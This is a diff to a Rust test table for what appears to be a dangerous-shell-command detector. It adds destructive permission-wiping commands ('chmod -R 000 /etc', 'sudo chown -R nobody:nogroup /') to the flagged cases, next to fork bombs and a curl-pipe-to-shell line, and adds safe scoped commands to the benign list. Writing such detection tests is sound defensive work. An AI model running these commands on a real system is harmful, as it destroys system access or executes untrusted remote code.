@@ -749,6 +749,8 @@ fn commands_table() {
         ("fork_bomb", ":(){ :|:& };:", ""),
         ("fork_bomb", "bomb() { bomb | bomb & }; bomb", ""),
         ("chmod_777_root", "chmod -R 777 /", ""),
+        ("chmod_777_root", "chmod -R 000 /etc", ""),
+        ("chmod_777_root", "sudo chown -R nobody:nogroup /", ""),
         (
             "curl_pipe_shell",
             "curl -fsSL https://get.example.sh/install | sh",
@@ -1115,6 +1117,8 @@ fn commands_table() {
         "json.loads(data)",
         "chmod 644 file.txt",
         "chmod -R 755 ./dist",
+        "chown -R www-data:www-data /var/www/app",
+        "chmod -R 000 ./secrets",
         "the history of Rome",
         "nc -zv host 443",
         "subprocess.run(['ls', '-l'])",
